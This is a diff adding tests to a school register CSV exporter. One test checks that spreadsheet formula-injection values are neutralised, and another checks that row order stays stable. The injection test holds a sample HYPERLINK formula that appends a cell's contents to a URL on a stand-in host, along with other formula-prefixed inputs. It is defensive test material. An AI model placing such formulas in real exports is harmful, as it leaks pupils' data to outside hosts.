@@ -96,4 +96,37 @@ describe('MIS register export', () => {
         'Defiance or refusal to follow instructions; Fighting or assault on a pupil', 'DB, PP', ''],
     ]);
   });
+
+  it('neutralises cells a spreadsheet would run as a formula, even with a line break in them, and keeps quoting and CRLF', () => {
+    const evil = new Map<string, Pupil>([
+      ['a', { ...pupils.get('a')!, legalSurname: '=HYPERLINK("http://x.test/?"&A1)\nOkafor', legalForename: '+Jess' }],
+      ['b', { ...pupils.get('b')!, legalSurname: '@SUM(1+1)', legalForename: '-Tom, "T"' }],
+    ]);
+    const csv = misRegisterCsv({
+      today: '2026-11-03',
+      register: [day('a', '2026-11-02'), day('b', '2026-11-02', { status: 'absent', arrivedAt: null, absenceFollowUp: '\t=cmd' })],
+      checkIns: [], referrals: [], placements: [], pupils: evil, roomName: () => 'The BASE', providerName: () => 'Oak Farm',
+    });
+    expect(csv.split('\r\n')[0]).toMatch(/^\uFEFFUPN,/);
+    const rows = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data.slice(1);
+    const cells = rows.flat();
+    // No cell a spreadsheet reads as a formula: every risky first character is behind a '.
+    expect(cells.filter((c) => /^[=+\-@\t\r\n]/.test(c))).toEqual([]);
+    expect(cells).toContain(`'=HYPERLINK("http://x.test/?"&A1)\nOkafor`);
+    expect(cells).toEqual(expect.arrayContaining(["'+Jess", "'@SUM(1+1)", `'-Tom, "T"`, "'\t=cmd"]));
+  });
+
+  it('orders rows the same way whatever order the records come in, two pupils of one name apart by UPN', () => {
+    const twins = new Map<string, Pupil>([
+      ['a', { ...pupils.get('a')!, upn: 'B000000000002', legalSurname: 'Smith', legalForename: 'Sam' }],
+      ['b', { ...pupils.get('b')!, upn: 'A000000000001', legalSurname: 'Smith', legalForename: 'Sam' }],
+    ]);
+    const csvOf = (register: RegisterEntryRow[]) =>
+      misRegisterCsv({ today: '2026-11-03', register, checkIns: [], referrals: [], placements: [], pupils: twins, roomName: () => 'The BASE', providerName: () => 'Oak Farm' });
+    const register = [day('a', '2026-11-02'), day('b', '2026-11-02'), day('a', '2026-11-03'), day('b', '2026-11-03')];
+    const csv = csvOf(register);
+    expect(csvOf([...register].reverse())).toBe(csv);
+    const upns = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data.slice(1).map((r) => `${r[5]} ${r[0]}`);
+    expect([...new Set(upns)]).toEqual(['02/11/2026 A000000000001', '02/11/2026 B000000000002', '03/11/2026 A000000000001', '03/11/2026 B000000000002']);
+  });
 });
